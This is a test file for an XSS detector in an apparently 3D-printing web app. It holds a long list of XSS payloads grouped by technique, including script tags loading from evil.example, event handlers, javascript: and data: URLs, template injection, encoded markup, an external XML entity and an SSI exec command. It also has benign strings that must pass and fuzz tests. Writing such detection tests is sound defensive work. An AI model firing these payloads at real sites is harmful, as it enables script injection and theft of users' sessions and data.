import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inspectorFor, itFlagsAttacksByTechnique } from "../support/detector";
import { scanTags } from "@/lib/security/detectors/html-lexer";
import { xssDetector } from "@/lib/security/detectors/xss";
import type { ThreatLevel } from "@/lib/security/sanitizer/types";

const inspect = inspectorFor(xssDetector);

type Row = [input: string, rule: string, level: ThreatLevel];

const ATTACKS: Record<string, Row[]> = {
  "script tags": [
    ["<!--><scRipT src=//14.rs>", "xss.executing-tag", "critical"],
    ["<!---><script src=//x.example></script>", "xss.executing-tag", "critical"],
    ["<!-- a --!><script src=//x.example></script>", "xss.executing-tag", "critical"],
    ["<script>alert(1)</script>", "xss.executing-tag", "critical"],
    ["<ScRiPt SRC=//evil.example/x.js></ScRiPt>", "xss.executing-tag", "critical"],
    ['"><script>alert(1)</script>', "xss.executing-tag", "critical"],
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />', "xss.executing-tag", "critical"],
    ["<scr<script>ipt>alert(1)</scr</script>ipt>", "xss.executing-tag", "critical"],
  ],
  "event handlers, including odd whitespace and slashes": [
    ["<svg/onload=alert(1)>", "xss.event-handler", "high"],
    ["<img src=x onerror=alert(1)>", "xss.event-handler", "high"],
    ["<img\tsrc=x\nonerror\n=\nalert(1)>", "xss.event-handler", "high"],
    ["<body onload=alert('XSS')>", "xss.event-handler", "high"],
    ["<details open ontoggle=alert(1)>", "xss.event-handler", "high"],
    ["<xss onbeforehellfreezes=alert(1)>", "xss.event-handler", "high"],
    ['" onmouseover="alert(1)', "xss.script-call", "high"],
    ["' onselect=$.getScript('//evil.example') '", "xss.event-handler", "high"],
    ["  onload= ", "xss.event-handler", "medium"],
  ],
  "javascript: and other script URLs, with entities and tabs": [
    ['<a href="javascript:alert(1)">x</a>', "xss.script-url", "high"],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', "xss.script-url", "high"],
    ['<a href="  JaVaScRiPt:alert(1)">x</a>', "xss.script-url", "high"],
    ['<a href="java\nscript:alert(1)">x</a>', "xss.script-url", "high"],
    ["javascript:alert(document.domain)", "xss.script-url", "high"],
    ["ja&tab;vascript:", "xss.script-url", "high"],
    ['<a href="vbscript:MsgBox+1">x</a>', "xss.script-url", "high"],
    ['<button formaction="javascript:alert(1)">x</button>', "xss.script-url", "high"],
    ['<math><a xlink:href="javascript:alert(1)">x</a></math>', "xss.script-url", "high"],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "xss.script-url", "high"],
  ],
  "data: URLs": [
    ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "xss.data-url", "high"],
    ['<object data="data:text/html,<script>alert(1)</script>"></object>', "xss.data-url", "high"],
    [" data: , <x>", "xss.data-url", "high"],
  ],
  "iframes, srcdoc and loading tags": [
    ['<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>', "xss.srcdoc", "high"],
    ['<embed src="deuce.swf">', "xss.executing-tag", "high"],
    ['<meta http-equiv="refresh" content="0; http://evil.example">', "xss.executing-tag", "high"],
    ['<link rel=import href="//evil.example/x.html">', "xss.executing-tag", "high"],
    ['<v:vmlframe src="foo.com/sup.fml"/>', "xss.executing-tag", "high"],
  ],
  "CSS that runs script": [
    ['<div style="width: expression(alert(1))">', "xss.css-script", "high"],
    ['<p style="background:url(javascript:alert(1))">', "xss.css-script", "high"],
    ["style=color:red;background:url(javascript:alert(1))", "xss.script-url", "high"],
    ["x=x:url(javascript", "xss.css-script", "high"],
    ["-moz-binding:url(http://example.com/xss.xml#xss)", "xss.css-script", "high"],
  ],
  "template injection": [
    ["{{constructor.constructor('alert(1)')()}}", "xss.template-injection", "high"],
    ["x {{$on.constructor('alert(1)')()}} y", "xss.template-injection", "high"],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", "xss.template-injection", "high"],
    ["[].sort.call`${alert}1337`", "xss.tagged-template", "high"],
  ],
  "script execution in code-like contexts": [
    ["';alert(1);//", "xss.script-call", "high"],
    ["eval('2 + 2')", "xss.script-call", "medium"],
    ["setInterval(code, 1)", "xss.script-call", "medium"],
    ["window['al'+'ert'](1)", "xss.global-access", "high"],
    ["document /*foo*/ .     cookie", "xss.global-access", "medium"],
    ["(document)[\"cookie\"]", "xss.global-access", "high"],
    ["(![]+[])[+!+[]]", "xss.jsfuck", "high"],
    ["A=alert;A(1)", "xss.script-call", "high"],
    ["a=eval;b=alert;a(b(/c/.source));", "xss.script-call", "high"],
    ["(alert)(1)", "xss.script-call", "high"],
    ["[1].find(alert)", "xss.script-call", "high"],
    ["eval.call(this,unescape.call(this,location))", "xss.script-call", "high"],
  ],
  "encodings that hide markup": [
    ["%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss.executing-tag", "critical"],
    ["\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "xss.executing-tag", "critical"],
    ["\\74script\\76alert(1)\\74/script\\76", "xss.executing-tag", "critical"],
    ["\\74svg o\\156load\\75alert\\501\\51\\76", "xss.event-handler", "high"],
    ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "xss.executing-tag", "critical"],
    ["\\xbcscript\\xbealert(\\xa2XSS\\xa2)\\xbc/script\\xbe", "xss.executing-tag", "critical"],
    ["%uff1cscript%u0020%uff1ealert(1)%uff1c/script%uff1e", "xss.executing-tag", "critical"],
  ],
  "XML and server-side includes": [
    ['<!DOCTYPE root [ <!ENTITY % x SYSTEM "https://evil.example/">%x;]>', "xss.xml-entity", "high"],
    ["foo!ENTITY % bar SYSTEM", "xss.xml-entity", "high"],
    ['<!--#exec cmd="id"-->', "xss.ssi", "high"],
  ],
};

describe("XSS detector: attacks by technique", () => {
  itFlagsAttacksByTechnique(ATTACKS, (raw) => inspect(raw));

  it("looks into query values and headers the same way", () => {
    expect(inspect("%3Csvg%2Fonload%3Dalert(1)%3E", "query", "query.q")?.rule).toBe("xss.event-handler");
    expect(inspect("Mozilla/5.0 <img onclick=alert(1)>", "header", "header.user-agent")?.rule).toBe("xss.event-handler");
  });
});

const BENIGN: Record<string, string[]> = {
  "OctoPrint UI strings with harmless markup": [
    "<!-- note -- still a comment --><b>ok</b>",
    "<strong>Warning:</strong> the bed is hot",
    'Even with OctoPrint you should <strong class="text-error">never leave your printer running unattended</strong>.',
    "Please use <code>M104 S200</code> to set the temperature",
    'See the <a href="%(url)s" target="_blank" rel="noopener noreferrer">documentation</a>',
    "<p>First paragraph</p><p>Second</p>",
    "<ul><li>One</li><li>Two</li></ul>",
    "Line one<br>Line two",
    '<i class="fas fa-wrench"></i> Settings',
    '<span data-bind="text: printerName"></span>',
    "You don't seem to have JavaScript enabled",
    "OctoPrint's UI requires JavaScript to work. Please enable JavaScript and reload.",
    'Update done, please close this window.',
  ],
  "G-code, Klipper macros and slicer templates": [
    "M104 S200 ; set hotend temperature",
    "G1 X10 Y20 F3000",
    '{% if printer.toolhead.homed_axes != "xyz" %}',
    '{printer["gcode_macro X"].var}',
    "{if nozzle_diameter[0]==0.4}0.027{endif}",
    "{{ printer.extruder.temperature }}",
    "SET_INPUT_SHAPER SHAPER_TYPE_X=<carriage_x_shaper> SHAPER_FREQ_X=<carriage_x_freq>",
    "Recv: // Z position: 0.130 --> 0.230 <-- 0.280",
    "{action_respond_info(\"Select 'PLA' or 'PETG' and press OK\")}",
  ],
  "prompts and file names": [
    "C:\\2024\\prints\\bracket.stl",
    "Keep overhangs < 45° and bridges <= 20mm",
    "Print at 200°C -> check adhesion -> adjust",
    "Send an alert (beep) when done, then prompt me (please)",
    "priority=alert; beep twice, then confirm, please",
    "Turn on the buzzer (alert) when the print is done",
    "if state == alert; pause the print",
    "eval board holder for the ESP32",
    "Window mount for the webcam (top-left)",
    "My javascript: skills are rusty",
    "data: 5 files uploaded",
    "online=true",
    "Turn the fan on=100%",
    "I <3 this printer",
    "document.write your name on the label",
    "bracket v2 (final).stl",
    "O'Brien's hinge.stl",
    '"%1%" preset',
    "${name} is a placeholder in the template",
    "width: 100px; background: url(bracket.png)",
  ],
};

describe("XSS detector: benign 3D-printing text passes", () => {
  for (const [kind, rows] of Object.entries(BENIGN)) {
    it.each(rows)(`passes ${kind}: %j`, (input) => {
      expect(inspect(input)).toBeNull();
      expect(inspect(encodeURIComponent(input), "query", "query.q")).toBeNull();
    });
  }
});

describe("HTML tag scanner", () => {
  it("ends a tag name at a slash and reads attributes split by slashes", () => {
    const tags: Array<{ name: string; attrs: string[] }> = [];
    scanTags("<svg/onload=alert(1)>", (t) => void tags.push({ name: t.name, attrs: t.attrs.map((a) => a.name) }));
    expect(tags).toEqual([{ name: "svg", attrs: ["onload"] }]);
  });

  it("drops a namespace prefix and keeps the local name", () => {
    const names: string[] = [];
    scanTags('<x:script xmlns:x="http://www.w3.org/1999/xhtml">', (t) => void names.push(t.name));
    expect(names).toEqual(["script"]);
  });
});

describe("XSS detector: robustness", () => {
  it("returns a verdict, never an exception, for arbitrary strings", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (s) => {
        const hit = inspect(s);
        return hit === null || hit.rule.startsWith("xss.");
      }),
      { numRuns: 2000 },
    );
  });

  it("returns a verdict for markup-shaped noise", () => {
    const piece = fc.constantFrom("<", ">", "/", "=", '"', "'", "`", " ", "on", "x", "script", "javascript:", "&#", "{{", "${", "(", ")", "[", "]", "\\x3c", "+ADw-", "<!--", "-->", "url(");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 200 }), (parts) => {
        const hit = inspect(parts.join(""));
        return hit === null || hit.rule.startsWith("xss.");
      }),
      { numRuns: 1000 },
    );
  });

  it.each(["<", "<a x=\"", "{{", "${", "((", "\\x3", "+ADw", "document.", " onx=", "[]!", "url("])("handles 256 KiB of %j", (unit) => {
    const hit = inspect(unit.repeat(Math.ceil((256 * 1024) / unit.length)));
    expect(hit === null || hit.rule.startsWith("xss.")).toBe(true);
  });
});
